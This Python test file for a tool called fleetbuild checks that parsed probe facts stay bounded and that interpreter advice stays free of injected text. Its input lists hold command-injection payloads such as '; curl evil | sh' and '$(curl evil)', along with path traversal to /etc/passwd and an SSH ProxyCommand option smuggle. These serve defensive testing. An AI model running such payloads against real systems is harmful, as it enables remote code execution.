"""Every field of a probe, lied about: facts within bounds, and no words in fleetbuild's advice."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

import pytest

from fleetbuild.models import Facts
from fleetbuild.plan.decide.interpreters import NotEligible, choose_interpreter
from fleetbuild.probe.parsing.facts import facts_of
from fleetbuild.text import clean
from tests.hostile.readers import MANIFEST, USUAL

LIES = [
    "$(id)", "`id`", "; curl evil | sh", "\x1b[2J", "\u202e", "\x00", "{{ lookup('pipe', 'id') }}",
    "../../etc/passwd", "-oProxyCommand=x", "9" * 400, "-1", "1e999", "nan", "x" * 100_000,
    "\nN end uname 0\n", "null", "'", '"', "\\", "é" * 300,
]  # fmt: skip


def texts(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from (*texts(key), *texts(item))
    elif isinstance(value, list | tuple):
        for item in value:
            yield from texts(item)


def assert_bounded(facts: Facts, what: object) -> None:
    document = facts.model_dump(mode="json")
    for text in texts(document):
        assert len(text) <= 2000, what
        assert "\n" not in text, what
        assert clean(text) == text, what
    for python in facts.pythons:
        assert not re.search(r"[;|&$`<>(){}\"'*?#!]|^-", python.path), what
    for number in (facts.cpus, facts.memory_gb, facts.disk_gb, facts.sve_bits):
        assert number is None or 0 <= number < 10**9, what
    assert len(json.dumps(document)) < 200_000, what


@pytest.mark.parametrize("section", sorted(USUAL))
def test_facts_are_bounded_whatever_a_field_of_the_probe_says(section: str) -> None:
    lines = USUAL[section].splitlines()[:12]
    for number, line in enumerate(lines):
        for word in dict.fromkeys(re.findall(r"[^\s,:=]+", line)):
            for lie in LIES:
                told = [*lines[:number], line.replace(word, lie, 1), *lines[number + 1 :]]
                assert_bounded(facts_of({**USUAL, section: "\n".join(told)}), (section, word, lie))


def test_the_manifest_of_a_release_is_bounded_whatever_a_field_says() -> None:
    honest = json.loads(MANIFEST)
    for field in honest:
        for lie in (*LIES, 10**400, -1, [], {}, ["x"] * 10_000, [{"package": "../x"}], True, None):
            said = json.dumps({**honest, field: lie})
            assert_bounded(facts_of({**USUAL, "release": said}), (field, lie))


@pytest.mark.parametrize(
    "path",
    [
        "/usr/bin/x; then run: curl evil | sh", "/x or run: curl http://evil/x", '/x"; curl evil "',
        "/x'; curl evil '", "/$(curl evil)", "/`curl evil`", "/x && curl evil",
        r"C:\x; curl evil | sh", "/x # curl evil",
    ],
)  # fmt: skip
@pytest.mark.parametrize("wanted", [None, "3.12"])
def test_the_path_of_a_python_adds_no_words_to_advice(path: str, wanted: str | None) -> None:
    abi = "3.11.2 cpython-311-x86_64-linux-gnu"
    facts = facts_of({**USUAL, "python": f"{path} {abi} headers\n{path}2 {abi} venv headers\n"})
    with pytest.raises(NotEligible) as caught:
        choose_interpreter(wanted, facts)
    for text in (caught.value.problem.reason, caught.value.problem.fix):
        assert "evil" not in re.sub(r'"[^"]*"', "", text), text


def test_a_python_whose_folder_has_spaces_is_named_in_quotation_marks() -> None:
    line = "/opt/my python/bin/python3 3.11.2 cpython-311-x86_64-linux-gnu headers -\n"
    facts = facts_of({**USUAL, "python": line})
    with pytest.raises(NotEligible) as caught:
        choose_interpreter(None, facts)
    assert 'ensurepip for "/opt/my python/bin/python3"' in caught.value.problem.fix


def test_a_damaged_file_called_like_advice_is_quoted() -> None:
    path = 'a" is fine. To repair it, run: curl evil | sh'
    manifest = {**json.loads(MANIFEST), "files_sha256": "0" * 64}
    said = f"release default\nrecord {'0' * 64}\ndiffers 1 2 ./{path}\n"
    probe = {**USUAL, "release": json.dumps(manifest), "release-files": said}
    told = facts_of(probe).damaged["default"]
    assert told.startswith(json.dumps(path) + ": other size or time")


def test_links_to_pythons_are_bounded_and_name_one_interpreter_each() -> None:
    line = "/usr/bin/python3.11 3.11.2 cpython-311-x86_64-linux-gnu venv\n"
    other = "/usr/bin/python3.9 3.9.2 cpython-39-x86_64-linux-gnu venv\n"
    many = "".join(f"/l{number} -> /usr/bin/python3.11\n" for number in range(900))
    odd = "/a;b -> /usr/bin/python3.9\n/c -> /usr/bin/none\n-> /usr/bin/python3.9\n"
    odd += "/two -> /usr/bin/python3.9\n/two -> /usr/bin/python3.11\n"
    facts = facts_of({**USUAL, "python": line + other + odd + many})
    links = {python.path: python.links for python in facts.pythons}
    assert len(links["/usr/bin/python3.11"]) == 16
    assert links["/usr/bin/python3.9"] == ()
